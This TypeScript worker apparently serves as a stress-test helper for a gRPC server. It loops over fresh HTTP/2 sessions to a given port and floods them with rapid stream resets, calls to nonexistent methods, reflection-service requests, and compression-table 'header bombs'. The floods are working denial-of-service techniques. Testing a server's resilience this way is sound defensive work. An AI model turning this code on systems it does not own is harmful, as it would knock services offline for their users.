import http2 from 'node:http2';
import { setTimeout as pause } from 'node:timers/promises';
import { workerData } from 'node:worker_threads';
import { EMPTY_MESSAGE, LIST, openSession, openStream, question, REFLECTION } from './raw-grpc.ts';

/** A worker that attacks a gRPC port on new sessions, again and again, until it is terminated. */

export interface StreamFlood {
  readonly port: number;
  readonly flood: 'resets' | 'unknown methods' | 'reflection' | 'header bombs';
}

const attacks: Record<StreamFlood['flood'], (session: http2.ClientHttp2Session) => void> = {
  resets(session) {
    for (let at = 0; at < 4000; at += 1) {
      const stream = openStream(session, LIST);
      stream.write(EMPTY_MESSAGE);
      stream.close(http2.constants.NGHTTP2_CANCEL);
    }
  },
  'unknown methods'(session) {
    for (let at = 0; at < 4000; at += 1) openStream(session, `/nobody/${at}`).end(EMPTY_MESSAGE);
  },
  reflection(session) {
    for (const stream of [openStream(session, REFLECTION), openStream(session, REFLECTION)])
      for (let at = 0; at < 4000; at += 1) stream.write(question(300));
  },
  'header bombs'(session) {
    // One entry of the compression table, and a byte for each time it is named again.
    const headers = { 'x-long': Array.from({ length: 100 }, () => 'x'.repeat(3000)) };
    for (let at = 0; at < 400; at += 1) openStream(session, LIST, headers).end(EMPTY_MESSAGE);
  },
};

const { port, flood }: StreamFlood = workerData;

for (;;) {
  const session = openSession(port);
  // However it ends.
  const gone = new Promise((resolve) => session.once('close', resolve));
  attacks[flood](session);
  await Promise.race([gone, pause(500)]);
  session.destroy();
}
